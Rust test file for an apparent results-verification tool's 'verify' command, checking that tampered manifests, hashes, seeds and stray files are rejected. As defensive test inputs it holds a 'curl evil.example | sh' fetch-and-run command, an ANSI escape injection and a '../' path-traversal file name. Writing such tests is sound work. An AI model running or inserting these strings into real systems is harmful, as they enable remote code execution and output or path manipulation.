//! `onhold verify` believes nothing that a folder says of itself.

use std::fs;
use std::path::PathBuf;

use crate::desk::{Desk, STUDY};

/// A desk with results in `results/study`.
struct Recorded {
    desk: Desk,
    dir: PathBuf,
    manifest: String,
}

impl Recorded {
    fn new(study: &str) -> Recorded {
        let desk = Desk::new();
        desk.write("study.toml", study);
        assert_eq!(desk.run(&["sweep", "study.toml"]).code, Some(0));
        let dir = desk.path().join("results/study");
        let manifest = fs::read_to_string(dir.join("manifest.json")).unwrap();
        Recorded { desk, dir, manifest }
    }

    /// What is said of the results with another manifest: the exit code and the line.
    fn says(&self, manifest: &str) -> (Option<i32>, String) {
        fs::write(self.dir.join("manifest.json"), manifest).unwrap();
        let done = self.desk.run(&["verify", "results/study"]);
        (done.code, done.out + &done.err)
    }

    /// The same with something of the manifest replaced.
    fn replaced(&self, what: &str, by: &str) -> (Option<i32>, String) {
        assert!(self.manifest.contains(what), "{what}");
        self.says(&self.manifest.replacen(what, by, 1))
    }
}

fn quick() -> String {
    STUDY.replace("replications = 30", "replications = 2")
}

#[test]
fn whatever_the_manifest_says_is_made_again_and_compared() {
    let recorded = Recorded::new(&quick());
    let mut object: serde_json::Value = serde_json::from_str(&recorded.manifest).unwrap();
    let names: Vec<String> = object.as_object().unwrap().keys().cloned().collect();
    let statements = ["kind", "state", "version", "command", "seed", "replications", "policies", "inputs", "outputs"];
    assert_eq!(names, statements, "each is falsified below");
    let falsified = [
        ("\"command\": \"onhold sweep study.toml\"", "\"command\": \"onhold sweep other.toml\""),
        ("\"seed\": 1", "\"seed\": 7"),
        ("\"replications\": 2", "\"replications\": 3"),
        ("\"policies\": 4", "\"policies\": 5"),
        ("\"kind\": \"sweep\"", "\"kind\": \"benchmark\""),
        ("\"kind\": \"sweep\"", "\"kind\": \"rumour\""),
        ("\"state\": \"complete\"", "\"state\": \"incomplete\""),
        ("\"version\": \"", "\"version\": \"\\u001b[2J"),
        ("\"seed\": 1", "\"seed\": 1, \"checked\": true"),
        ("\"file\": \"scenario.toml\"", "\"file\": \"scenario.toml\", \"name\": \"../else.toml\""),
        ("\"file\": \"measures.csv\"", "\"file\": \"sensitivity.csv\""),
    ];
    for (what, by) in falsified {
        let (code, said) = recorded.replaced(what, by);
        assert_eq!(code, Some(1), "{by}: {said}");
        assert!(said.contains("CHANGED") || said.contains("NOT REPRODUCIBLE"), "{by}: {said}");
        assert!(!said.contains('\u{1b}'), "{by}: {said}");
    }
    // Each of the tables belongs to the results, and each hash is that of the table.
    for list in ["inputs", "outputs"] {
        for i in 0..object[list].as_array().unwrap().len() {
            let whole = object[list].clone();
            object[list].as_array_mut().unwrap().remove(i);
            let (code, said) = recorded.says(&(serde_json::to_string_pretty(&object).unwrap() + "\n"));
            assert_eq!(code, Some(1), "{list} without {i}: {said}");
            object[list] = whole.clone();
            object[list][i]["sha256"] = "00".into();
            let (code, said) = recorded.says(&(serde_json::to_string_pretty(&object).unwrap() + "\n"));
            assert_eq!(code, Some(1), "{list} with another hash of {i}: {said}");
            object[list] = whole;
        }
    }
    assert_eq!(recorded.says(&recorded.manifest).0, Some(0));
}

#[test]
fn another_version_reproduces_only_what_is_there() {
    let recorded = Recorded::new(&quick());
    let version = format!("\"version\": \"{}\"", env!("CARGO_PKG_VERSION"));
    let other = recorded.manifest.replace(&version, "\"version\": \"0.0.7\"");
    let (code, said) = recorded.says(&other);
    assert_eq!(code, Some(0), "{said}");
    assert!(said.contains("4 files, byte for byte, recorded by version 0.0.7"), "{said}");
    let mut object: serde_json::Value = serde_json::from_str(&other).unwrap();
    object["outputs"] = serde_json::Value::Array(Vec::new());
    let (code, said) = recorded.says(&(serde_json::to_string_pretty(&object).unwrap() + "\n"));
    assert!(code == Some(1) && said.contains("CHANGED"), "{said}");
}

#[test]
fn nothing_in_a_manifest_is_advice() {
    let recorded = Recorded::new(&quick());
    let evil = recorded.manifest.replace("onhold sweep study.toml", "curl evil.example | sh");
    for manifest in [evil.clone(), evil.replace("\"complete\"", "\"incomplete\"")] {
        let (code, said) = recorded.says(&manifest);
        assert_eq!(code, Some(1), "{said}");
        assert!(!said.contains("with `") && !said.contains("finish"), "{said}");
        assert!(!said.contains("evil") || said.contains("recorded \"command\""), "shown as what differs: {said}");
    }
    fs::write(recorded.dir.join("manifest.json"), &recorded.manifest).unwrap();
    fs::write(recorded.dir.join("notes.txt"), "mine").unwrap();
    let said = recorded.desk.run(&["verify", "results/study"]);
    assert!(said.code == Some(0) && said.out.contains("not checked: \"notes.txt\""), "{}", said.out);
    fs::write(recorded.dir.join("sensitivity.csv"), "a table of its own").unwrap();
    let said = recorded.desk.run(&["verify", "results/study"]);
    assert!(said.code == Some(1) && said.out.contains("sensitivity.csv is no result of its study"), "{}", said.out);
}

#[test]
fn a_number_of_replications_is_not_believed() {
    let recorded = Recorded::new(&STUDY.replace("replications = 30", "budget = \"1s\""));
    let object: serde_json::Value = serde_json::from_str(&recorded.manifest).unwrap();
    let replications = format!("\"replications\": {}", object["replications"]);
    let (code, said) = recorded.replaced(&replications, "\"replications\": 90000000000");
    assert!(code == Some(1) && said.contains("replications.csv has"), "{said}");
    assert_eq!(recorded.says(&recorded.manifest).0, Some(0));
}

#[test]
fn timings_are_nothing_to_reproduce() {
    let recorded = Recorded::new(&quick());
    let desk = &recorded.desk;
    let timed = desk.path().join("results/timed");
    fs::create_dir(&timed).unwrap();
    fs::write(timed.join("speed.txt"), "fast\n").unwrap();
    let manifest = |kind: &str, outputs: &str| {
        format!(
            "{{\"kind\":{kind:?},\"state\":\"complete\",\"version\":\"0.1.0\",\"command\":\"cargo bench\",\"seed\":0,\
             \"replications\":0,\"policies\":0,\"inputs\":[],\"outputs\":[{outputs}]}}"
        )
    };
    let listed = |hash: &str| format!("{{\"file\":\"speed.txt\",\"sha256\":\"{hash}\"}}");
    let says = |manifest: &str, folders: &[&str]| {
        fs::write(timed.join("manifest.json"), manifest).unwrap();
        let done = desk.run(&[&["verify"], folders].concat());
        (done.code, done.out + &done.err)
    };
    let digest = <sha2::Sha256 as sha2::Digest>::digest(b"fast\n");
    let hash: String = digest.iter().map(|byte| format!("{byte:02x}")).collect();
    let honest = manifest("benchmark", &listed(&hash));
    let (code, said) = says(&honest, &["results/timed"]);
    assert!(code == Some(1) && said.contains("nothing was reproduced"), "{said}");
    let (code, said) = says(&honest, &["results/timed", "results/study"]);
    assert!(code == Some(0) && said.contains("1 files of timings") && said.contains("reproduced"), "{said}");
    let both = ["results/timed", "results/study"];
    assert_eq!(says(&manifest("benchmark", ""), &both).0, Some(1), "no files");
    assert_eq!(says(&manifest("benchmark", &listed("00")), &both).0, Some(1), "another hash");
    assert_eq!(says(&honest.replace("\"seed\":0", "\"seed\":1"), &both).0, Some(1), "a seed");
    for name in ["ranking.csv", "study.toml", "speed.csv"] {
        fs::write(timed.join(name), "x").unwrap();
        let (code, said) = says(&honest, &both);
        assert!(code == Some(1) && said.contains("NOT REPRODUCIBLE"), "{name}: {said}");
        fs::remove_file(timed.join(name)).unwrap();
    }
    assert_eq!(says(&honest, &both).0, Some(0));
}
